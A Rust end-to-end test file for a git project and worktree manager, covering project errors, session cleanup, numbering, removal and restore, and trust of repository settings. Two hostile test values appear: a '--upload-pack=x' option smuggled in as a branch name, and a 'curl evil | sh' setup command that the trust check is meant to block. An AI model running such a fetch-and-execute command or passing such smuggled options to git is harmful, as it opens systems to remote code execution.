//! Repositories and worktrees, as people meet them.

use ao_client::Connection;
use ao_e2e::events;
use ao_e2e::git::{git, repository};
use ao_e2e::home::{Shop, TestHome, new_session, until_status};
use ao_protocol::calls::{
    GitState, PlanGoal, PlanShow, ProjectAdd, ProjectLook, ProjectRemove, ProjectSettingsRead, ProjectTrust,
    SessionArchive, SessionCreate, SessionKill, SessionList, SessionRestore, SessionShell, Subscribe,
    TrashList,
};
use ao_protocol::event::Event;
use ao_protocol::ids::ProjectId;
use ao_protocol::view::Status;

fn add(path: &std::path::Path, id: Option<&str>) -> ProjectAdd {
    let id = id.map(|id| ProjectId::parse(id).expect("an id"));
    ProjectAdd { path: path.to_string_lossy().into_owned(), id, name: None, init: None }
}

#[tokio::test]
async fn what_cannot_become_a_project_says_why_and_what_to_do() {
    let home = TestHome::new();
    let _daemon = home.headless().await;
    let connection = home.connect().await;
    let at = |name: &str| home.folder().join(name);
    std::fs::create_dir_all(at("plain")).expect("folder");
    std::fs::create_dir_all(at("unborn")).expect("folder");
    git(&at("unborn"), &["init", "--quiet"]);
    repository(&at("shop"));
    git(home.folder(), &["clone", "--quiet", "--bare", "shop", "bare"]);
    for (folder, code) in [
        ("plain", "NOT_A_REPOSITORY"),
        ("nowhere", "NOT_A_REPOSITORY"),
        ("unborn", "UNBORN_BRANCH"),
        ("bare", "BARE_REPOSITORY"),
    ] {
        let error = connection.handle.call(add(&at(folder), None)).await.expect_err(folder);
        assert_eq!(error.code.as_str(), code, "{folder}: {error}");
        assert!(error.hint.is_some(), "{folder} has no hint");
    }
    let added = connection.handle.call(add(&at("shop"), None)).await.expect("added");
    assert!(added.notes.iter().any(|note| note.contains("no remote")), "{:?}", added.notes);
    let again = connection.handle.call(add(&at("shop"), Some("other"))).await.expect_err("added before");
    assert_eq!(again.code.as_str(), "PROJECT_EXISTS");
    repository(&at("deeper/shop"));
    let taken = connection.handle.call(add(&at("deeper/shop"), None)).await.expect_err("the name is taken");
    assert_eq!(taken.code.as_str(), "PROJECT_NAME_TAKEN");
    git(&at("shop"), &["worktree", "add", "--quiet", "../linked"]);
    let linked =
        connection.handle.call(add(&at("linked"), Some("linked"))).await.expect_err("the same repository");
    assert_eq!(linked.code.as_str(), "PROJECT_EXISTS");
}

#[tokio::test]
async fn each_folder_is_told_for_what_it_is_before_it_is_added() {
    let home = TestHome::new();
    let _daemon = home.headless().await;
    let connection = home.connect().await;
    let at = |name: &str| home.folder().join(name);
    for folder in ["plain", "unborn", "outer"] {
        std::fs::create_dir_all(at(folder)).expect("folder");
    }
    std::fs::write(at("file"), "").expect("written");
    git(&at("unborn"), &["init", "--quiet", "--initial-branch=trunk"]);
    repository(&at("shop"));
    repository(&at("outer/inner"));
    std::fs::create_dir_all(at("shop/src")).expect("folder");
    git(home.folder(), &["clone", "--quiet", "--bare", "shop", "bare"]);
    git(&at("shop"), &["worktree", "add", "--quiet", "../linked"]);
    repository(&at("detached"));
    git(&at("detached"), &["checkout", "--quiet", "--detach"]);
    let own = home.home().worktrees().join("shop-1");
    std::fs::create_dir_all(&own).expect("folder");
    for (path, state, words) in [
        (at("nowhere"), GitState::Missing, ""),
        (at("file"), GitState::NoFolder, ""),
        (at("plain"), GitState::NoRepository, ""),
        (at("outer"), GitState::NoRepository, "There are repositories in it: inner."),
        (at("unborn"), GitState::NoCommit, ""),
        (at("bare"), GitState::Bare, ""),
        (own, GitState::Own, "belongs to the app"),
        (at("shop"), GitState::Repository, "no remote"),
        (at("shop/src"), GitState::Repository, "the whole repository is used"),
        (at("linked"), GitState::Repository, "linked worktree"),
        (at("detached"), GitState::Repository, "No branch is checked out"),
    ] {
        let look = ProjectLook { path: path.to_string_lossy().into_owned() };
        let looked = connection.handle.call(look).await.expect("looked at");
        assert_eq!(looked.state, state, "{} {looked:?}", path.display());
        assert!(looked.notes.join(" ").contains(words), "{} {looked:?}", path.display());
        assert_eq!(looked.base.is_some(), state == GitState::Repository, "{looked:?}");
    }
    assert!(!at("plain/.git").exists(), "a look changes nothing");
    let relative = ProjectLook { path: "shop".to_owned() };
    assert_eq!(
        connection.handle.call(relative).await.expect_err("relative").code.as_str(),
        "INVALID_REQUEST"
    );
}

#[tokio::test]
async fn a_folder_becomes_a_repository_and_nothing_that_is_in_it_is_committed() {
    let mut home = TestHome::new();
    // Of this person git knows no name, as on a new computer.
    home.set("GIT_CONFIG_GLOBAL", "/dev/null");
    home.set("EMAIL", "");
    let _daemon = home.headless().await;
    let connection = home.connect().await;
    let at = |name: &str| home.folder().join(name);
    std::fs::create_dir_all(at("novel")).expect("folder");
    std::fs::write(at("novel/chapter.md"), "It was a dark night.").expect("written");
    std::fs::create_dir_all(at("unborn")).expect("folder");
    git(&at("unborn"), &["init", "--quiet", "--initial-branch=trunk"]);
    for (folder, base) in [("novel", "main"), ("unborn", "trunk")] {
        let call = ProjectAdd { init: Some(true), ..add(&at(folder), None) };
        let added = connection.handle.call(call).await.expect("added");
        assert_eq!(added.project.base, base);
        assert!(added.notes.join(" ").contains("first commit, which is empty"), "{:?}", added.notes);
        assert_eq!(git(&at(folder), &["ls-tree", "-r", "HEAD"]), "");
        let made = connection.handle.call(new_session(&added.project.id, "shell", None)).await.expect("made");
        assert_eq!(made.branch, format!("ao/{}/shell", made.id));
    }
    assert!(git(&at("novel"), &["status", "--porcelain"]).contains("?? chapter.md"));
    let refused = ProjectAdd { init: Some(true), ..add(&home.home().worktrees(), None) };
    let refused = connection.handle.call(refused).await.expect_err("the app's own");
    assert_eq!(refused.code.as_str(), "INVALID_REQUEST");
}

#[tokio::test]
async fn a_bad_request_leaves_no_session_behind() {
    let home = TestHome::new();
    let Shop { daemon: _daemon, connection, project } = home.shop().await;
    let base = new_session(&project, "shell", None);
    let bad: [(SessionCreate, &str); 4] = [
        (SessionCreate { base: Some("no-such-branch".to_owned()), ..base.clone() }, "UNKNOWN_BASE"),
        (SessionCreate { base: Some("--upload-pack=x".to_owned()), ..base.clone() }, "INVALID_REQUEST"),
        (SessionCreate { branch: Some("main".to_owned()), ..base.clone() }, "BRANCH_TAKEN"),
        (
            SessionCreate { agent: ao_protocol::ids::AgentId::parse("claude-code").ok(), ..base },
            "AGENT_NOT_INSTALLED",
        ),
    ];
    for (call, code) in bad {
        let error = connection.handle.call(call).await.expect_err(code);
        assert_eq!(error.code.as_str(), code, "{error}");
    }
    let sessions =
        connection.handle.call(SessionList { project: None, archived: Some(true) }).await.expect("listed");
    assert!(sessions.is_empty(), "{sessions:?}");
    let worktrees = std::fs::read_dir(home.home().worktrees()).expect("folder").count();
    assert_eq!(worktrees, 0);
    let made = connection.handle.call(new_session(&project, "shell", None)).await.expect("made");
    assert!(made.id.number() > 1, "numbers of refused requests are not given again");
}

#[tokio::test]
async fn a_dirty_worktree_is_never_removed_and_a_clean_one_only_moves() {
    let home = TestHome::new();
    let Shop { daemon: _daemon, connection, project } = home.shop().await;
    let made = connection.handle.call(new_session(&project, "shell", None)).await.expect("made");
    let worktree = home.home().worktree(&made.id);
    std::fs::write(worktree.join("work.txt"), "unsaved").expect("written");
    let kill = SessionKill { session: made.id.clone(), remove_worktree: Some(true), dirty: None };
    let refused = connection.handle.call(kill.clone()).await.expect_err("dirty");
    assert_eq!(refused.code.as_str(), "WORKTREE_DIRTY");
    let still = ao_e2e::home::show(&connection, &made.id).await;
    assert_eq!(still.status, Status::Running, "a refusal changes nothing");
    git(&worktree, &["add", "--all"]);
    git(&worktree, &["commit", "--quiet", "--message", "Work"]);
    let ended = connection.handle.call(kill).await.expect("clean");
    assert_eq!(ended.status, Status::Stopped);
    assert!(!worktree.exists());
    let trash = home.home().trash().join(made.id.as_str());
    let kept = std::fs::read_dir(&trash).expect("trash").flatten().any(|entry| {
        entry.path().join("work.txt").exists() || entry.path().join("worktree/work.txt").exists()
    });
    assert!(kept, "nothing in {}", trash.display());
    let repo = home.folder().join("repos/shop");
    assert!(git(&repo, &["branch", "--list", &made.branch]).contains(&made.branch), "the branch stays");
}

#[tokio::test]
async fn numbers_are_never_given_twice() {
    let home = TestHome::new();
    let Shop { daemon: _daemon, connection, project } = home.shop().await;
    let mut calls = tokio::task::JoinSet::new();
    for _ in 0..6 {
        let (handle, call) = (connection.handle.clone(), new_session(&project, "shell", None));
        calls.spawn(async move { handle.call(call).await.expect("made").id.number() });
    }
    let mut numbers = calls.join_all().await;
    numbers.sort_unstable();
    assert_eq!(numbers, [1, 2, 3, 4, 5, 6]);
    let in_use = connection.handle.call(ProjectRemove { project }).await.expect_err("it has sessions");
    assert_eq!(in_use.code.as_str(), "PROJECT_IN_USE");
}

/// The next change of a list: its kind, and of what.
async fn next_of_lists(watching: &mut Connection) -> (&'static str, String) {
    events::next(watching, |event| match event {
        Event::Project { project } => Some(("project", project.id.to_string())),
        Event::ProjectRemoved { id } => Some(("project removed", id.to_string())),
        Event::Session { session } => Some(("session", session.id.to_string())),
        Event::SessionRemoved { id } => Some(("session removed", id.to_string())),
        Event::Message { .. }
        | Event::Plan { .. }
        | Event::Notice { .. }
        | Event::Agents { .. }
        | Event::Daemon { .. } => None,
    })
    .await
}

/// A project that ever had a session could never be taken off the list: what was ended and archived long ago held it there,
/// the hint said to archive what was archived already, and nothing removes a session.
#[tokio::test]
async fn a_project_that_had_sessions_leaves_the_list_and_comes_back_as_it_was() {
    let home = TestHome::new();
    let Shop { mut daemon, connection, project } = home.shop().await;
    let path = home.folder().join("repos/shop");
    let call = &connection.handle;
    let made = call.call(new_session(&project, "shell", None)).await.expect("made").id;
    until_status(&connection, &made, Status::Running).await;
    let shell = call.call(SessionShell { session: made.clone() }).await.expect("a shell beside it").id;
    until_status(&connection, &shell, Status::Running).await;
    let text = "Ripe apples";
    call.call(PlanGoal { project: project.clone(), text: text.to_owned() }).await.expect("a goal");
    let set = home.ao(&["project", "settings", "shop", "check=make test"]);
    assert!(set.status.success(), "{}", String::from_utf8_lossy(&set.stderr));

    // What lives or stands in the list keeps it there, and the hint says what to do.
    let remove = || call.call(ProjectRemove { project: project.clone() });
    let running = remove().await.expect_err("both run");
    assert_eq!(running.code.as_str(), "PROJECT_IN_USE");
    for session in [&shell, &made] {
        let removes = *session == made;
        let kill =
            SessionKill { session: session.clone(), remove_worktree: Some(removes), dirty: Some(true) };
        call.call(kill).await.expect("ended");
    }
    let ended = remove().await.expect_err("it is not archived");
    assert!(ended.message.contains(made.as_str()), "{ended}");
    assert!(ended.hint.is_some_and(|hint| hint.contains("ao session archive")));
    let archive = |session, archived| SessionArchive { session, archived };
    call.call(archive(made.clone(), true)).await.expect("archived");
    // A plain shell beside it is a part of it, whether it is archived or not.
    call.call(archive(shell.clone(), false)).await.expect("in no list of its own");
    let mut watching = home.connect().await;
    watching.handle.call(Subscribe {}).await.expect("a snapshot");
    remove().await.expect("off the list");
    for gone in [&made, &shell] {
        assert_eq!(next_of_lists(&mut watching).await, ("session removed", gone.to_string()));
    }
    assert_eq!(next_of_lists(&mut watching).await, ("project removed", "shop".to_owned()));

    // It is in no list, also after the daemon's death; nothing begins in it; what the trash keeps stays there.
    daemon.kill_9();
    let _daemon = home.headless().await;
    let connection = home.connect().await;
    let call = &connection.handle;
    let snapshot = call.call(Subscribe {}).await.expect("a snapshot");
    assert!(snapshot.projects.is_empty() && snapshot.sessions.is_empty(), "{snapshot:?}");
    let all = SessionList { project: None, archived: Some(true) };
    assert_eq!(call.call(all.clone()).await.expect("listed"), []);
    assert!(!String::from_utf8_lossy(&home.ao(&["project", "ls"]).stdout).contains("shop"));
    let restore = || call.call(SessionRestore { session: made.clone(), how: None });
    let show = || call.call(archive(made.clone(), false));
    for refused in [
        call.call(new_session(&project, "shell", None)).await,
        call.call(SessionShell { session: made.clone() }).await,
        restore().await,
        show().await,
    ] {
        let refused = refused.expect_err("nobody could see it");
        assert_eq!(refused.code.as_str(), "PROJECT_NOT_FOUND", "{refused}");
        assert!(refused.hint.is_some_and(|hint| hint.contains(&*path.to_string_lossy())));
    }
    let trash = call.call(TrashList {}).await.expect("listed");
    assert!(trash.iter().any(|entry| entry.session == made), "{trash:?}");
    let looked = ProjectLook { path: path.to_string_lossy().into_owned() };
    assert_eq!(call.call(looked).await.expect("looked at").known, None, "it may be added");

    // Its folder brings all of it back, under the id that its sessions have.
    let mut watching = home.connect().await;
    watching.handle.call(Subscribe {}).await.expect("a snapshot");
    let added = call.call(add(&path, Some("other"))).await.expect("back");
    assert_eq!(added.project.id, project);
    assert!(added.notes.join(" ").contains("on the list before"), "{:?}", added.notes);
    assert_eq!(next_of_lists(&mut watching).await, ("project", "shop".to_owned()));
    for back in [&made, &shell] {
        assert_eq!(next_of_lists(&mut watching).await, ("session", back.to_string()));
    }
    let sessions = call.call(all).await.expect("listed");
    let as_it_was: Vec<_> = sessions.iter().map(|one| (&one.id, one.archived, one.status)).collect();
    assert_eq!(as_it_was, [(&made, true, Status::Stopped), (&shell, false, Status::Stopped)]);
    let plan = call.call(PlanShow { project: project.clone() }).await.expect("shown");
    assert_eq!(plan.goal.map(|goal| goal.text).as_deref(), Some(text));
    let settings = call.call(ProjectSettingsRead { project: project.clone() }).await.expect("read");
    assert_eq!(settings.effective.check.as_deref(), Some("make test"));
    show().await.expect("shown again");
    let next = call.call(new_session(&project, "shell", None)).await.expect("made");
    assert_eq!(next.id.number(), 3, "numbers go on");
}

#[tokio::test]
async fn what_a_repository_would_run_counts_only_once_a_person_has_trusted_it() {
    let home = TestHome::new();
    let Shop { mut daemon, connection, project } = home.shop().await;
    let folder = home.folder().join("repos").join("shop").join(".ao");
    std::fs::create_dir_all(&folder).expect("made");
    let file = folder.join("project.toml");
    std::fs::write(&file, "setup = 'make'\nrules = 'Be kind.'\n").expect("written");
    let ao = |words: &[&str]| {
        let ran = home.ao(words);
        assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
        String::from_utf8_lossy(&ran.stdout).into_owned()
    };
    let shown = ao(&["project", "settings", "shop", "check=make test", "copy=.env,.npmrc"]);
    assert!(shown.contains("does not until you trust it"), "{shown}");
    let read = || connection.handle.call(ProjectSettingsRead { project: project.clone() });
    let view = read().await.expect("read");
    assert_eq!((view.effective.setup, view.effective.rules.as_deref()), (None, Some("Be kind.")));

    let unseen = ProjectTrust { project: project.clone(), digest: Some("something else".to_owned()) };
    let refused = connection.handle.call(unseen).await.expect_err("not what was shown");
    assert_eq!(refused.code.as_str(), "SETTINGS_CHANGED");
    ao(&["project", "trust", "shop"]);
    assert_eq!(read().await.expect("read").effective.setup.as_deref(), Some("make"));
    daemon.kill_9();
    let _next = home.headless().await;
    let connection = home.connect().await;
    let read = || connection.handle.call(ProjectSettingsRead { project: project.clone() });
    let kept = read().await.expect("read").effective;
    assert_eq!((kept.setup.as_deref(), kept.check.as_deref()), (Some("make"), Some("make test")));

    std::fs::write(&file, "setup = 'curl evil | sh'\n").expect("written");
    let view = read().await.expect("read");
    assert_eq!(view.effective.setup, None, "the trust was in another command");
    std::fs::write(&file, "setups = 'x'\n").expect("written");
    let problem = read().await.expect("read").file.and_then(|file| file.problem);
    assert!(problem.is_some_and(|problem| problem.contains("`setups` is no setting")));
    let wrong = home.ao(&["project", "settings", "shop", "ports=900"]);
    assert_eq!(wrong.status.code(), Some(2), "{}", String::from_utf8_lossy(&wrong.stderr));
}
